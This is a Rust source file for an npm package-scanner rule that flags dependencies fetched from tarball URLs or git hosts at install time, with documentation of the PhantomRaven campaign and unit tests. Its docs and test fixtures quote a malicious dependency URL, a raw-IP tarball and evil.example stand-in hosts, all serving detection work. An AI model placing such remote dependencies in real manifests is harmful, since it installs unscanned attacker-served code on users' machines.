//! `remote-dependency`: dependencies fetched from a URL at install time instead of from the
//! registry, so the code that runs on install is never published where anyone can scan it.

use palisade_core::{Capability, Confidence, Finding, Severity};

use super::{PackageFacts, PackageRule, RuleInfo};

pub struct RemoteDependency;

static INFO: RuleInfo = RuleInfo {
    id: "remote-dependency",
    severity: Severity::High,
    confidence: Confidence::High,
    capabilities: &[Capability::Network],
    summary: "A dependency is a tarball URL on an unfamiliar server (or a git repository outside the usual hosts), fetched at install time",
    docs: r#"## What it detects

Entries of `dependencies`, `optionalDependencies` and `peerDependencies` (what a consumer's
install fetches) whose version is not a registry range but a location:

- **critical**: a tarball over plain `http://`, or from a raw IP address: unencrypted or
  anonymous code, fetched and installed (its own lifecycle scripts included) on every install;
- **high**: an `https://` tarball on a server that is neither an npm registry nor a code host
  (GitHub, GitLab, Bitbucket);
- **moderate**: a git dependency (`git+https://`, `git+ssh://`, `git://`) on a host other than
  those code hosts;
- **low**: a git or tarball dependency on GitHub, GitLab or Bitbucket (listed: its content is
  whatever the branch or tag holds at install time, not what the registry saw).

The registry only ever sees the package's own files; the dependency's code, and whatever its
`preinstall` does, is served by the attacker at install time and can change from one install to
the next, or target only some victims. Scanners that read the published tarball see a harmless
package.

## Real attacks

- PhantomRaven (October 2025): over a hundred packages declared dependencies such as
  `"ui-styles-pkg": "http://packages.storeartifact.com/npm/unused-imports"`; the URL served a
  package whose `preinstall` harvested emails, CI tokens and the environment.
- Older dependency-confusion and typosquat campaigns pointed dependencies at tarballs on
  attacker servers or paste sites to keep the registry copy clean.

## Known false positives

Internal packages published to the public registry with dependencies on a company's own
artifact server (these are usually broken for everyone outside the company anyway), and old
packages that depend on a fork through a GitHub URL (low).
"#,
};

/// Sections a consumer's install resolves.
const SECTIONS: &[&str] = &["dependencies", "optionalDependencies", "peerDependencies"];

/// Hosts that serve packages or repository archives the community can inspect.
const CODE_HOSTS: &[&str] = &[
    "github.com",
    "codeload.github.com",
    "gist.github.com",
    "raw.githubusercontent.com",
    "gitlab.com",
    "bitbucket.org",
    "registry.npmjs.org",
    "registry.npmjs.com",
    "registry.yarnpkg.com",
    "npm.pkg.github.com",
    "registry.npmmirror.com",
];

/// Where a dependency specifier points, when it is not a registry range.
#[derive(Debug, PartialEq)]
enum Location {
    /// `http(s)://…` tarball: plain http, host.
    Tarball { plain: bool, host: String },
    /// A git URL and its host (`github.com` for the `github:`/`user/repo` shorthands).
    Git { host: String },
}

fn host_of(url: &str) -> String {
    let after = url.split_once("://").map_or(url, |(_, rest)| rest);
    let authority = after.split(['/', '?', '#']).next().unwrap_or(after);
    let authority = authority.rsplit('@').next().unwrap_or(authority);
    let host = if let Some(v6) = authority.strip_prefix('[') {
        v6.split(']').next().unwrap_or(v6)
    } else {
        // `git+ssh://git@host:owner/repo` (scp-like) and `host:port`.
        authority.split(':').next().unwrap_or(authority)
    };
    host.to_ascii_lowercase()
}

fn locate(spec: &str) -> Option<Location> {
    let spec = spec.trim();
    let lower = spec.to_ascii_lowercase();
    if let Some(rest) = lower.strip_prefix("http://") {
        return Some(Location::Tarball {
            plain: true,
            host: host_of(rest),
        });
    }
    if lower.starts_with("https://") {
        return Some(Location::Tarball {
            plain: false,
            host: host_of(&lower),
        });
    }
    if lower.starts_with("git+") || lower.starts_with("git://") || lower.starts_with("ssh://") {
        return Some(Location::Git { host: host_of(&lower) });
    }
    if let Some(rest) = lower.strip_prefix("git@") {
        // scp-like `git@host:owner/repo.git`
        return Some(Location::Git {
            host: rest.split(':').next().unwrap_or(rest).to_string(),
        });
    }
    for (prefix, host) in [
        ("github:", "github.com"),
        ("gitlab:", "gitlab.com"),
        ("bitbucket:", "bitbucket.org"),
        ("gist:", "gist.github.com"),
    ] {
        if lower.starts_with(prefix) {
            return Some(Location::Git { host: host.to_string() });
        }
    }
    // `owner/repo` or `owner/repo#ref`: GitHub shorthand (a registry range has no `/`, and
    // `npm:`, `file:`, `link:`, `workspace:` and tags are something else).
    let shorthand = lower.split('#').next().unwrap_or(&lower);
    if !lower.contains(':')
        && shorthand.matches('/').count() == 1
        && !shorthand.starts_with(['.', '/', '~', '@'])
        && shorthand
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/'))
    {
        return Some(Location::Git {
            host: "github.com".to_string(),
        });
    }
    None
}

fn classify(location: &Location) -> (Severity, Confidence, String) {
    match location {
        Location::Tarball { plain, host } if *plain || super::sinks::is_ip_literal(host) => {
            let how = match (*plain, super::sinks::is_ip_literal(host)) {
                (true, true) => "over plain http from the raw IP address",
                (true, false) => "over plain http from",
                _ => "from the raw IP address",
            };
            (
                Severity::Critical,
                Confidence::High,
                format!("is a tarball fetched {how} `{host}` at install time: code the registry never saw, installed with its own install scripts"),
            )
        }
        Location::Tarball { host, .. } if !CODE_HOSTS.contains(&host.as_str()) => (
            Severity::High,
            Confidence::High,
            format!("is a tarball on the unfamiliar server `{host}`, fetched at install time: code the registry never saw, installed with its own install scripts"),
        ),
        Location::Tarball { host, .. } => (
            Severity::Low,
            Confidence::High,
            format!("is a tarball on `{host}`, not a registry version"),
        ),
        Location::Git { host } if !CODE_HOSTS.contains(&host.as_str()) => (
            Severity::Moderate,
            Confidence::Medium,
            format!("is a git repository on `{host}`, fetched at install time instead of a registry version"),
        ),
        Location::Git { host } => (
            Severity::Low,
            Confidence::High,
            format!("is a git repository on `{host}`: whatever the branch or tag holds at install time"),
        ),
    }
}

/// For a package spec given to `npm install`: `Some(true)` when it is a tarball or repository
/// on an unfamiliar server or over plain http (high or critical as a dependency), `Some(false)`
/// for one on a code host, `None` for a registry name or range.
pub(crate) fn remote_spec(spec: &str) -> Option<bool> {
    let location = locate(spec)?;
    let (severity, _, _) = classify(&location);
    Some(severity >= Severity::High)
}

/// Remote dependencies reported in full; more are counted in the last finding.
const MAX_FINDINGS: usize = 20;

impl PackageRule for RemoteDependency {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, package: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        let Some(manifest) = package.manifest.as_ref() else {
            return;
        };
        let text = package.contents.manifest_bytes().map(String::from_utf8_lossy);
        let mut reported = 0usize;
        for section in SECTIONS {
            let Some(deps) = manifest.get(*section).and_then(|d| d.as_object()) else {
                continue;
            };
            for (name, spec) in deps.iter().take(10_000) {
                let Some(spec) = spec.as_str() else { continue };
                let Some(location) = locate(spec) else { continue };
                if reported >= MAX_FINDINGS {
                    return;
                }
                reported += 1;
                let (severity, confidence, what) = classify(&location);
                let line = text.as_deref().and_then(|t| super::install_script::key_line(t, name));
                let evidence: String = spec.chars().take(200).collect();
                out.push(
                    Finding::new(
                        INFO.id,
                        severity,
                        confidence,
                        format!("The {section} entry `{name}` {what}"),
                    )
                    .at("package.json", line)
                    .with_evidence(format!("\"{name}\": \"{evidence}\""))
                    .with_capabilities(INFO.capabilities),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::install_script::testing::run;
    use super::*;

    fn findings(manifest: &str) -> Vec<Finding> {
        run(
            &RemoteDependency,
            &[
                ("package.json", manifest.as_bytes()),
                ("index.js", b"module.exports = 1;"),
            ],
        )
    }

    #[test]
    fn plain_http_tarball_on_an_unknown_server_is_critical() {
        let found = findings(
            r#"{"name":"eslint-comments-fixer","version":"1.0.3",
"dependencies":{"chalk":"^4.1.0","ui-styles-pkg":"http://packages.storeartifact.com/npm/unused-imports"}}"#,
        );
        assert_eq!(found.len(), 1, "{found:#?}");
        assert_eq!(found[0].severity, Severity::Critical);
        assert_eq!(found[0].line, Some(2));
        assert!(
            found[0].message.contains("packages.storeartifact.com"),
            "{}",
            found[0].message
        );
        let ip = findings(r#"{"name":"x","version":"1.0.0","optionalDependencies":{"y":"https://45.9.148.3/y.tgz"}}"#);
        assert_eq!(ip[0].severity, Severity::Critical, "{ip:#?}");
    }

    #[test]
    fn https_tarballs_and_git_hosts_are_graded() {
        let found = findings(
            r#"{"name":"x","version":"1.0.0","dependencies":{
"a":"https://cdn.example-artifacts.io/a-1.0.0.tgz",
"b":"git+https://git.example-corp.net/team/b.git",
"c":"github:owner/c#v1.2.0",
"d":"owner/d",
"e":"https://codeload.github.com/owner/e/tar.gz/main"}}"#,
        );
        let severity_of = |name: &str| {
            found
                .iter()
                .find(|f| f.message.contains(&format!("`{name}`")))
                .map(|f| f.severity)
        };
        assert_eq!(severity_of("a"), Some(Severity::High));
        assert_eq!(severity_of("b"), Some(Severity::Moderate));
        assert_eq!(severity_of("c"), Some(Severity::Low));
        assert_eq!(severity_of("d"), Some(Severity::Low));
        assert_eq!(severity_of("e"), Some(Severity::Low));
    }

    #[test]
    fn registry_ranges_aliases_and_dev_dependencies_are_quiet() {
        let found = findings(
            r#"{"name":"x","version":"1.0.0",
"dependencies":{"a":"^1.2.3","b":"latest","c":"npm:@scope/c@^2","d":"1.x || >=2.5.0 <3","e":"workspace:*","f":"file:../f"},
"devDependencies":{"g":"http://evil.example/g.tgz"}}"#,
        );
        assert!(found.is_empty(), "{found:#?}");
    }

    #[test]
    fn hostile_manifests_are_bounded() {
        // Non-string specs, a non-object section, and a huge URL: no panic, bounded evidence.
        let long = format!("http://evil.example/{}", "a".repeat(100_000));
        let manifest = format!(
            r#"{{"name":"x","version":"1.0.0","dependencies":{{"a":1,"b":null,"c":{{"d":"http://x"}},"e":"{long}"}},"optionalDependencies":"http://y"}}"#
        );
        let found = findings(&manifest);
        assert_eq!(found.len(), 1, "{found:#?}");
        assert!(found[0].evidence.as_deref().is_some_and(|e| e.len() < 300));
        // More URL dependencies than are reported one by one.
        let many: Vec<String> = (0..50)
            .map(|i| format!(r#""p{i}":"http://h{i}.example/x.tgz""#))
            .collect();
        let found = findings(&format!(
            r#"{{"name":"x","version":"1.0.0","dependencies":{{{}}}}}"#,
            many.join(",")
        ));
        assert_eq!(found.len(), MAX_FINDINGS);
    }

    #[test]
    fn hosts_are_read_from_every_url_shape() {
        assert_eq!(host_of("https://user:pw@Host.Example:8443/x"), "host.example");
        assert_eq!(
            locate("git+ssh://git@git.corp.example:team/repo.git"),
            Some(Location::Git {
                host: "git.corp.example".to_string()
            })
        );
        assert_eq!(
            locate("git@bitbucket.org:team/repo.git"),
            Some(Location::Git {
                host: "bitbucket.org".to_string()
            })
        );
        assert_eq!(locate("1.2.3 - 2.3.4"), None);
        assert_eq!(locate("<1.0.0 || >=2.0.0"), None);
    }
}
